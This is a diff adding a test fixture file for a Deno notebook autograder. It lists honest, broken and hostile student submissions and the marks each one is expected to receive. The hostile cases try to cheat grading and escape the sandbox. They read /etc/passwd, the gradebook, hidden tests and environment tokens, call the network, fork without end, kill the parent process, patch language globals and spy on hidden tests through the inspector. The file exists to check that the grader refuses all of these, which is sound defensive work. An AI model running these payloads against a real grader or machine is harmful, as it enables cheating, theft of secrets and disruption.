@@ -1,0 +1,490 @@
+// Submissions of the sample assignment, honest and hostile, with the marks that they must get.
+import type { Notebook } from "../../notebooks/notebook_file.ts";
+import { answered, SAMPLE, sampleNotebook, sampleRelease, SECRET } from "./sample.ts";
+
+/** Places that a hostile submission tries to reach. */
+export interface Targets {
+  /** The folder of another student's submission. */
+  other: string;
+  /** nbgrader's gradebook, and the notebook with the hidden tests. */
+  gradebook: string;
+  source: string;
+  /** A folder outside. */
+  outside: string;
+  /** A port of this machine where something listens. */
+  port: number;
+}
+
+/** A submission. */
+export interface Case {
+  name: string;
+  /** What is in it, in a few words. */
+  says: string;
+  /** Writes it. */
+  write(folder: string, targets: Targets): Promise<void>;
+  /** Points for slope, mean and step; `undefined`: nothing could be graded. */
+  marks: [slope: number, mean: number, step: number] | undefined;
+  /** What the note must say; nothing: that there is none. */
+  note?: RegExp;
+  /** What no output may contain. */
+  never?: RegExp;
+  /** Left out of the committed tests, as it is slow. */
+  slow?: boolean;
+}
+
+const ALL: [number, number, number] = [40, 30, 30];
+const WRONG_SLOPE = "function slope(x: number): number { return 17; }";
+const WRONG_MEAN = "function meanOf(values: number[]): number { return 17; }";
+const RIGHT_MEAN =
+  "function meanOf(values: number[]): number {\n  return values.reduce((a, b) => a + b, 0) / values.length;\n}";
+
+async function put(folder: string, notebook: Notebook | string, name = SAMPLE): Promise<void> {
+  const text = typeof notebook === "string" ? notebook : JSON.stringify(notebook);
+  await Deno.writeTextFile(`${folder}/${name}.ipynb`, text);
+}
+
+/** Each with a notebook, made by the function. */
+function notebook(
+  name: string,
+  says: string,
+  make: (targets: Targets) => Notebook,
+  marks: Case["marks"],
+  more: Partial<Case> = {},
+): Case {
+  return { name, says, write: (folder, targets) => put(folder, make(targets)), marks, ...more };
+}
+
+function edit(change: (notebook: Notebook) => void, answers: Parameters<typeof answered>[0] = {}): Notebook {
+  const notebook = answered(answers);
+  change(notebook);
+  return notebook;
+}
+
+const cellOf = ({ cells }: Notebook, id: string) => cells.find((cell) => cell.id === id)!;
+const without = (id: string) => (notebook: Notebook) => {
+  notebook.cells = notebook.cells.filter((cell) => cell.id !== id);
+};
+
+/** Each attempt says GOT if it had what it wanted. */
+function attempts(tries: Record<string, string>): string {
+  return Object.entries(tries).map(([name, code]) =>
+    `try {\n  ${code}\n  console.log("GOT ${name}");\n} catch (error) {\n` +
+    `  console.log("refused ${name}: " + (error as Error).name);\n}`
+  ).join("\n");
+}
+
+const HONEST: Case[] = [
+  notebook("solutions", "the instructor's own answers", () => sampleNotebook(), ALL),
+  notebook("release", "handed in as it was handed out", () => sampleRelease(), [0, 0, 0]),
+  notebook(
+    "wrong-slope",
+    "a gradient without its factor 2, and a step that uses it",
+    () => answered({ slope: "function slope(x: number): number { return x; }" }),
+    [0, 30, 0],
+  ),
+  notebook(
+    "wrong-mean",
+    "a sum in place of a mean",
+    () => answered({ mean: "function meanOf(values: number[]) { return values.reduce((a, b) => a + b); }" }),
+    [40, 0, 30],
+  ),
+  notebook(
+    "only-hidden",
+    "right for positive numbers only: a hidden test sees it",
+    () => answered({ slope: "function slope(x: number): number { return 2 * Math.abs(x); }" }),
+    [0, 30, 30],
+  ),
+  notebook(
+    "warns",
+    "console.warn and console.error in right answers",
+    () =>
+      answered({
+        slope: 'console.warn("careful");\nfunction slope(x: number) { console.error("x", x); return 2 * x; }',
+        mean:
+          'function meanOf(v: number[]) { console.warn("mean"); return v.reduce((a, b) => a + b) / v.length; }',
+      }),
+    ALL,
+  ),
+  notebook(
+    "syntax-error",
+    "a bracket is missing in one answer",
+    () => answered({ mean: "function meanOf(values: number[] { return 3; }" }),
+    [40, 0, 30],
+  ),
+  notebook(
+    "deleted",
+    "a check and an exercise are gone",
+    () => edit((n) => (without("check-step")(n), without("mean")(n))),
+    [40, 0, 30],
+    { note: /“mean” was deleted.*“check-step” was deleted/ },
+  ),
+  notebook(
+    "more-cells",
+    "cells of the student's own, and a helper in one of them",
+    () =>
+      edit((n) => {
+        n.cells.splice(2, 0, {
+          cell_type: "code",
+          id: "mine",
+          source: "const twice = (x: number) => 2 * x;",
+          metadata: {},
+          outputs: [],
+          ...{ execution_count: null },
+        });
+      }, { slope: "function slope(x: number): number { return twice(x); }" }),
+    ALL,
+  ),
+  {
+    name: "renamed",
+    says: "the notebook has another name",
+    write: (folder) => put(folder, answered(), "My homework (2)"),
+    marks: ALL,
+    note: /found under the name My homework/,
+  },
+  {
+    name: "twice",
+    says: "two notebooks, neither with the right name",
+    write: async (folder) => {
+      await put(folder, answered(), "first");
+      await put(folder, answered(), "second");
+    },
+    marks: undefined,
+    note: /2 notebooks could be it/,
+  },
+];
+
+const BROKEN: Case[] = [
+  {
+    name: "no-json",
+    says: "not JSON",
+    write: (folder) => put(folder, "{"),
+    marks: undefined,
+    note: /is no notebook/,
+  },
+  {
+    name: "deep-json",
+    says: "nested a million times",
+    write: (folder) => put(folder, "[".repeat(1e6)),
+    marks: undefined,
+    note: /nested too deeply|is no notebook/,
+  },
+  {
+    name: "gigabyte",
+    says: "a file of 1 GB",
+    write: async (folder) => {
+      await put(folder, "{");
+      await Deno.truncate(`${folder}/${SAMPLE}.ipynb`, 1e9);
+    },
+    marks: undefined,
+    note: /1000 MB/,
+  },
+  {
+    name: "link",
+    says: "a link to another student's notebook",
+    write: (folder, { other }) => Deno.symlink(`${other}/${SAMPLE}.ipynb`, `${folder}/${SAMPLE}.ipynb`),
+    marks: undefined,
+    note: /is a link/,
+  },
+  {
+    name: "empty",
+    says: "an empty folder",
+    write: async () => {},
+    marks: undefined,
+    note: /there is no sample.ipynb/,
+  },
+  {
+    name: "another",
+    says: "a notebook of another course, under the right name",
+    write: (folder) => put(folder, { cells: [], metadata: {}, nbformat: 4, nbformat_minor: 5 }),
+    marks: [0, 0, 0],
+    note: /was deleted/,
+  },
+];
+
+const ENDLESS: Case[] = [
+  notebook(
+    "loops",
+    "an endless loop in an answer",
+    () => answered({ mean: "function meanOf(values: number[]): number { while (true); }" }),
+    [40, 0, 30],
+    { note: /check-mean: did not end/ },
+  ),
+  notebook(
+    "waits",
+    "awaits what never comes, in a cell",
+    () => answered({ mean: `await new Promise(() => {});\n${RIGHT_MEAN}` }),
+    ALL,
+    { note: /cell mean: did not end/ },
+  ),
+  notebook(
+    "memory",
+    "a list that grows for ever",
+    () => answered({ mean: "const all = [];\nwhile (true) all.push(new Array(1e6).fill(1.5));" }),
+    [40, 0, 30],
+    { note: /cell mean: / },
+  ),
+  notebook(
+    "buffers",
+    "memory beside V8's",
+    () =>
+      answered({
+        mean: "const all = [];\nwhile (true) {\n  all.push(new Uint8Array(1e8).fill(1));\n" +
+          "  await new Promise((done) => setTimeout(done, 1));\n}",
+      }),
+    [40, 0, 30],
+    { note: /cell mean: stopped: it took more than \d+ MB/ },
+  ),
+  notebook(
+    "prints",
+    "100 MB of output",
+    () => answered({ mean: `for (let i = 0; i < 1000; i++) console.log("x".repeat(1e5));\n${RIGHT_MEAN}` }),
+    ALL,
+    { note: /cell mean: printed more/ },
+  ),
+  notebook(
+    "exits",
+    "Deno.exit(0) in a cell",
+    () => answered({ mean: `Deno.exit(0);` }),
+    [40, 0, 30],
+    { note: /cell mean: .*ended/ },
+  ),
+  notebook(
+    "exits-late",
+    "an answer that ends the program when a check calls it",
+    () => answered({ mean: "function meanOf(values: number[]): number { Deno.exit(0); }" }),
+    [40, 0, 30],
+    { note: /cell check-mean: .*ended/ },
+  ),
+  notebook(
+    "fork-bomb",
+    "starts programs without end, then threads",
+    () =>
+      answered({
+        mean: attempts({
+          program: 'while (true) new Deno.Command(Deno.execPath(), { args: ["eval", "1"] }).spawn();',
+        }) + "\nwhile (true) new Worker('data:application/javascript,while(true){}', { type: 'module' });",
+      }),
+    [40, 0, 30],
+    { note: /cell mean: /, never: /GOT/ },
+  ),
+];
+
+const CHEATS: Case[] = [
+  notebook(
+    "edited",
+    "checks, points and marks of cells changed",
+    () =>
+      edit((n) => {
+        cellOf(n, "check-slope").source = "1;";
+        cellOf(n, "check-mean").metadata!.nbgrader!.points = 1000;
+        cellOf(n, "check-step").metadata!.nbgrader!.grade = false;
+        cellOf(n, "nudge").source = "const nudge = () => 17;";
+      }, { slope: WRONG_SLOPE }),
+    [0, 30, 0],
+    { note: /“nudge” was edited.*“check-slope” was edited.*points of “check-mean”.*marks of “check-step”/ },
+  ),
+  notebook(
+    "replaces-check",
+    "declares a check of its own that is always content",
+    () => answered({ slope: `${WRONG_SLOPE}\nconst check = async () => {}, checkThat = check;` }),
+    [0, 0, 0],
+    { note: /check was replaced/ },
+  ),
+  notebook(
+    "replaces-helper",
+    "declares the helper of a check anew, to agree with a wrong answer",
+    () => answered({ slope: `${WRONG_SLOPE}\nconst nudge = () => 17;` }),
+    [0, 30, 0],
+    { note: /nudge was replaced/ },
+  ),
+  notebook(
+    "patches-language",
+    "changes Math, Array, Promise and Object for everybody",
+    () =>
+      answered({
+        slope: `${WRONG_SLOPE}\n` + attempts({
+          abs: "Math.abs = () => 0;",
+          math: "globalThis.Math = { ...Math, abs: () => 0 } as Math;",
+          isNaN: "Number.isNaN = () => true;",
+          every: "Array.prototype.some = () => false;",
+          inherited: "Object.prototype.tolerance = 1e9;",
+          then: "Promise.prototype.then = function () { return this; };",
+          error: "globalThis.Error = class {};",
+          join: "Array.prototype.join = () => '';",
+        }),
+      }),
+    [0, 30, 0],
+    { never: /GOT/ },
+  ),
+  notebook(
+    "hides-language",
+    "declares a Math of its own, which the library would see",
+    () => answered({ slope: `const Math = { abs: () => 0 };\n${WRONG_SLOPE}` }),
+    [0, 30, 0],
+  ),
+  notebook(
+    "patches-library",
+    "changes the library's classes",
+    () =>
+      answered({
+        slope: `import { CheckError, Tensor } from "backprop";\n${WRONG_SLOPE}\n` + attempts({
+          data: "Object.defineProperty(Tensor.prototype, 'shape', { get: () => [] });",
+          method: "Tensor.prototype.allClose = () => true;",
+          thrown: "CheckError.prototype.toString = () => '';",
+        }),
+      }),
+    [0, 30, 0],
+    { never: /GOT/ },
+  ),
+  notebook(
+    "patches-kernel",
+    "changes how the kernel waits, so that what fails is not noticed",
+    () =>
+      answered({
+        slope: `${WRONG_SLOPE}\n` + attempts({
+          wait: "globalThis.__backprop_wait = async () => {};",
+          begin: "Object.defineProperty(globalThis, '__backprop_begin', { value: () => {} });",
+          stop: "globalThis[Symbol.for('backprop.stop')] = undefined;",
+        }),
+      }),
+    [0, 30, 0],
+    { never: /GOT/ },
+  ),
+  notebook(
+    "fakes-result",
+    "sends a number as the result of a check, which nbgrader would take for points",
+    () =>
+      answered({
+        slope: `function slope(x: number): number {\n` +
+          `  for (const type of ["execute_result", "display_data"]) {\n` +
+          `    Deno.jupyter.broadcast(type, { execution_count: 1, data: { "text/plain": "40" }, metadata: {} });\n` +
+          `  }\n  return 17;\n}`,
+      }),
+    [0, 30, 0],
+  ),
+  notebook(
+    "restarts",
+    "ends the kernel, and hopes for a new one without guards",
+    () => answered({ slope: "Deno.exit(0);", mean: `Math.abs = () => 0;\n${WRONG_MEAN}` }),
+    [0, 0, 0],
+    { note: /cell slope: / },
+  ),
+  notebook(
+    "knows-guard",
+    "asks the grader's own guard for help",
+    () =>
+      answered({
+        slope: `${WRONG_SLOPE}\n` + attempts({
+          guard:
+            `(await import("file:///project/tools/grading/inside/guard.ts")).register("", { nudge: () => 17 });`,
+        }),
+      }),
+    [0, 30, 0],
+    { never: /GOT/ },
+  ),
+];
+
+const ESCAPES: Case[] = [
+  notebook(
+    "network",
+    "calls out: a page, a port of this machine, a name, a socket of the kernel",
+    ({ port }) =>
+      answered({
+        mean: `${RIGHT_MEAN}\n` + attempts({
+          fetch: 'await fetch("http://example.com");',
+          port: `await Deno.connect({ hostname: "127.0.0.1", port: ${port} });`,
+          name: 'await Deno.resolveDns("example.com", "A");',
+          listen: "Deno.listen({ port: 0 });",
+          node: `await new Promise((done, failed) => import("node:net").then(({ connect }) =>\n` +
+            `    connect(${port}, "127.0.0.1").on("connect", done).on("error", failed)));`,
+          module: 'await import("https://example.com/x.ts");',
+        }),
+      }),
+    ALL,
+    { never: /GOT/ },
+  ),
+  notebook(
+    "reads",
+    "looks for other submissions, the gradebook, hidden tests, secrets of the machine",
+    ({ other, gradebook, source }) =>
+      answered({
+        mean: `${RIGHT_MEAN}\n` + attempts({
+          other: `Deno.readTextFileSync("${other}/${SAMPLE}.ipynb");`,
+          gradebook: `Deno.readFileSync("${gradebook}");`,
+          source: `Deno.readTextFileSync("${source}");`,
+          passwd: 'Deno.readTextFileSync("/etc/passwd");',
+          neighbours: 'const up = [...Deno.readDirSync("..")].map((e) => e.name).join();\n' +
+            "  if (!/ipynb|submitted|student/.test(up)) throw new Error(up);",
+          home: 'Deno.readDirSync("/root").next(); Deno.readDirSync("/home").next();',
+          temporary: 'if ([...Deno.readDirSync("/tmp")].length < 2) throw new Error("empty");',
+          environment:
+            "if (Object.keys(Deno.env.toObject()).some((n) => /JPY|JUPYTER|TOKEN|KEY|USER/.test(n))) {}\n" +
+            '  else throw new Error("clean");',
+          processes:
+            "if ([...Deno.readDirSync('/proc')].filter((e) => /^\\d+$/.test(e.name)).length < 8) throw new Error();",
+        }),
+      }),
+    ALL,
+    { never: /GOT/ },
+  ),
+  notebook(
+    "writes",
+    "writes outside of its folder, into the library, over the sockets; fills the disk",
+    ({ outside }) =>
+      answered({
+        mean: `${RIGHT_MEAN}\nDeno.writeTextFileSync("mine.txt", "allowed");\n` + attempts({
+          outside: `Deno.writeTextFileSync("${outside}/written.txt", "x");`,
+          library: 'Deno.writeTextFileSync("/project/lib/mod.ts", "x");',
+          root: 'Deno.writeTextFileSync("/x", "x");',
+          device: 'Deno.writeTextFileSync("/dev/shm/x", "x");',
+          home: 'Deno.mkdirSync("/root/x");',
+          fill: "for (let i = 0; i < 100; i++) Deno.writeFileSync(`f${i}`, new Uint8Array(1e6));",
+        }),
+      }),
+    ALL,
+    { never: /GOT/ },
+  ),
+  notebook(
+    "native",
+    "loads native code, kills its parent",
+    () =>
+      answered({
+        mean: `${RIGHT_MEAN}\n` + attempts({
+          native: 'Deno.dlopen("libc.so.6", { getpid: { parameters: [], result: "i32" } });',
+          kill: 'Deno.kill(Deno.ppid, "SIGKILL");',
+          node: '(await import("node:process")).default.kill(Deno.ppid, "SIGKILL");',
+          memory: 'Deno.writeFileSync("/proc/self/mem", new Uint8Array(1));',
+        }),
+      }),
+    ALL,
+    { never: /GOT/ },
+  ),
+  notebook(
+    "spies",
+    "waits for the hidden test to run, and prints its text",
+    () =>
+      answered({
+        slope: [
+          "const seen: string[] = [];",
+          "try {",
+          '  const { Session } = await import("node:inspector");',
+          "  const session = new Session();",
+          "  session.connect();",
+          '  session.on("Debugger.scriptParsed", ({ params }) => {',
+          '    session.post("Debugger.getScriptSource", { scriptId: params.scriptId }, (_: unknown, r: any) => {',
+          "      if (r) seen.push(String(r.scriptSource));",
+          "    });",
+          "  });",
+          '  session.post("Debugger.enable");',
+          "} catch (error) { console.log(String(error)); }",
+          "function slope(x: number): number { return 2 * x; }",
+        ].join("\n"),
+        mean: `console.log(seen.length, seen.join("\\n"));\n${RIGHT_MEAN}`,
+      }),
+    ALL,
+    { never: new RegExp(SECRET) },
+  ),
+];
+
+/** All of them. */
+export const CASES: Case[] = [...HONEST, ...BROKEN, ...ENDLESS, ...CHEATS, ...ESCAPES];
